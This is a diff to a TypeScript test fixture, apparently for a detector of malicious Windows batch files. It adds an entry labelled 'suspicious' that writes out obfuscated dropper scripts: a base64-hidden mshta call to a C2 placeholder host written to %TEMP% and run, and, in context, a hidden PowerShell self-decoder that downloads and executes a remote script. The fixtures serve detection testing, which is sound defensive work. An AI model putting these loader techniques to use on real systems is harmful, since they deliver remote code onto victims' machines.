@@ -118,6 +118,14 @@ export const harmfulBatch: readonly HarmfulScript[] = [
     files: ['unseen2.bat'],
   },
   {
+    name: 'a batch file that Python prints from code on its command line, and called',
+    file: 'inline.bat',
+    label: 'suspicious',
+    source: `@echo off\r\npython -c "import base64;print(base64.b64decode('${base64(`mshta ${C2}inline.hta`)}').decode())" > %TEMP%\\inline2.bat\r\ncall %TEMP%\\inline2.bat\r\n`,
+    ids: ['trace_runs_dropped_program'],
+    files: ['inline2.bat'],
+  },
+  {
     name: 'itself read by PowerShell',
     file: 'self.bat',
     source: `@echo off\r\npowershell -w hidden -nop -c "$l=[IO.File]::ReadAllLines('%~f0')[-1];iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($l.Substring(2))))"\r\nexit /b\r\n::${base64(`IEX (New-Object Net.WebClient).DownloadString('${C2}self.ps1')`)}`,
